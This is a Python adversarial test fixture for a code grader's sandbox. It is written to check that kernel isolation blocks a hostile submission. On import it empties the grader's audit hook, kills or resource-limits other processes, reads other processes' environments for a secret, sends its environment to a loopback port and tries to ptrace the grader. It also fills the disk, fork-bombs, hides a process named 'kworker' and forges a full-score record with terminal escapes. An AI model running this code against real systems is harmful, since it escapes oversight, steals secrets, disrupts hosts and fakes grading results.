# ADVERSARIAL FIXTURE (maintainer_tests/test_grader.py): what a submission can do once it has
# switched off every Python-level check of the grader's child. At import it empties the audit
# hook's policy, then tries to limit, signal, trace or read other processes (the grader's
# environment holds KATA_ADVERSARY_SECRET in the test), reach a loopback listener (the test
# listens on ADVERSARY_PORT), fill the disk, fork without bound, leave a process behind that
# renames itself, outgrow its memory budget with forks, and forge a huge record full of
# terminal escapes. The kernel's walls (kata/grader/isolation.py) must refuse all of it: the grader grades everything else
# exactly; positional, whose functions raise, loses its 15 points.
import ctypes
import gc
import json
import os
import resource
import signal
import socket
import sys
import time

ADVERSARY_PORT = 47317
TRIED = []


def attempt(name, action):
    try:
        TRIED.append(f"{name}: {action()!r}"[:300])
    except BaseException as error:  # noqa: BLE001
        TRIED.append(f"{name}: refused ({type(error).__name__}: {error})"[:300])


def empty_the_audit_hook():
    """Clear every set, dict and list that the child's hook closes over or reads as a global."""
    for thing in gc.get_objects():
        if callable(thing) and getattr(thing, "__name__", "") == "hook" and thing.__closure__:
            for cell in thing.__closure__:
                contents = cell.cell_contents
                if isinstance(contents, (set, list, dict)):
                    contents.clear()
                elif isinstance(contents, str):
                    cell.cell_contents = "/"  # the sandbox is now everything
            for name in ("FORBIDDEN_EVENTS", "CHANGES"):
                if isinstance(thing.__globals__.get(name), (set, dict)):
                    thing.__globals__[name].clear()
    return "emptied"


def other_pids():
    return [int(entry) for entry in os.listdir("/proc") if entry.isdigit() and int(entry) != os.getpid()]


def limit_others():
    done = []
    for pid in [os.getppid(), 1, *other_pids()]:
        try:
            resource.prlimit(pid, resource.RLIMIT_AS, (1, 1))
            done.append(pid)
        except OSError:
            pass
    return f"limited {done}"


def signal_others():
    done = []
    for pid in [os.getppid(), 1, *other_pids()]:
        try:
            os.kill(pid, signal.SIGKILL)
            done.append(pid)
        except OSError:
            pass
    return f"killed {done}"


def read_environments():
    found = []
    for pid in [os.getppid(), 1, *other_pids()]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as environ:
                found.append(environ.read())
        except OSError:
            pass
    text = b" ".join(found)
    return "found the secret" if b"KATA_ADVERSARY_SECRET" in text else f"read {len(text)} bytes"


def phone_home():
    with socket.create_connection(("127.0.0.1", ADVERSARY_PORT), timeout=2) as connection:
        connection.sendall(json.dumps(dict(os.environ)).encode())
    return "sent"


def trace_the_grader():
    libc = ctypes.CDLL(None, use_errno=True)
    return libc.ptrace(16, os.getppid(), None, None)  # PTRACE_ATTACH


def fill_the_disk():
    written = 0
    for folder in ("/tmp", os.getcwd(), os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, "ballast"), "wb") as ballast:
                for _ in range(1024):  # up to 1 GiB per folder
                    ballast.write(b"\0" * 2**20)
                    written += 2**20
        except OSError:
            continue
    return f"wrote {written >> 20} MiB"


def fork_without_bound():
    children = 0
    for _ in range(300):
        pid = os.fork()
        if pid == 0:
            time.sleep(600)
            os._exit(0)
        children += 1
    return f"forked {children}"


def leave_a_renamed_process_behind():
    pid = os.fork()
    if pid == 0:
        os.setsid()
        if os.fork() == 0:
            libc = ctypes.CDLL(None)
            libc.prctl(15, b"kworker/0:1", 0, 0, 0)  # PR_SET_NAME
            sys.argv[:] = ["kworker"]
            time.sleep(600)
        os._exit(0)
    return "left one"


def outgrow_the_memory_budget():
    """Three forks of 1.5 GiB each: under a per-process limit each would fit, together they do not."""
    import torch

    pids = []
    for _ in range(3):
        pid = os.fork()
        if pid == 0:
            hog = torch.ones(3 * 2**27)  # 1.5 GiB, every page touched
            time.sleep(30 + float(hog[0]))
            os._exit(0)
        pids.append(pid)
    time.sleep(5)
    alive = []
    for pid in pids:
        try:
            done, _ = os.waitpid(pid, os.WNOHANG)
            alive.append(done == 0)
        except ChildProcessError:
            alive.append(False)
    return f"alive after 5 s: {alive}"


def forge_a_huge_record():
    escape = "\x1b[2J\x1b[H total 100 / 100 "
    record = {"check": "positional/table", "error": {"type": "X", "message": escape + "A" * 12_000_000}}
    descriptor = int(sys.argv[2]) if len(sys.argv) > 2 and sys.argv[2].isdigit() else 1
    os.write(descriptor, (json.dumps(record) + "\n").encode())
    print(escape * 1000)
    return "forged"


for name, action in [
    ("empty the audit hook", empty_the_audit_hook),
    ("limit other processes", limit_others),
    ("read other environments", read_environments),
    ("phone home", phone_home),
    ("trace the grader", trace_the_grader),
    ("fill the disk", fill_the_disk),
    ("outgrow the memory budget", outgrow_the_memory_budget),
    ("fork without bound", fork_without_bound),
    ("leave a renamed process behind", leave_a_renamed_process_behind),
    ("forge a huge record", forge_a_huge_record),
    ("signal other processes", signal_others),
]:
    attempt(name, action)
print("\n".join(TRIED))


def sinusoidal_positional_encoding(max_len, d_model):
    raise RuntimeError("beyond_python: " + "; ".join(TRIED)[:1500])


class Embeddings:
    def __init__(self, *args, **kwargs):
        raise RuntimeError("beyond_python: " + "; ".join(TRIED)[:1500])
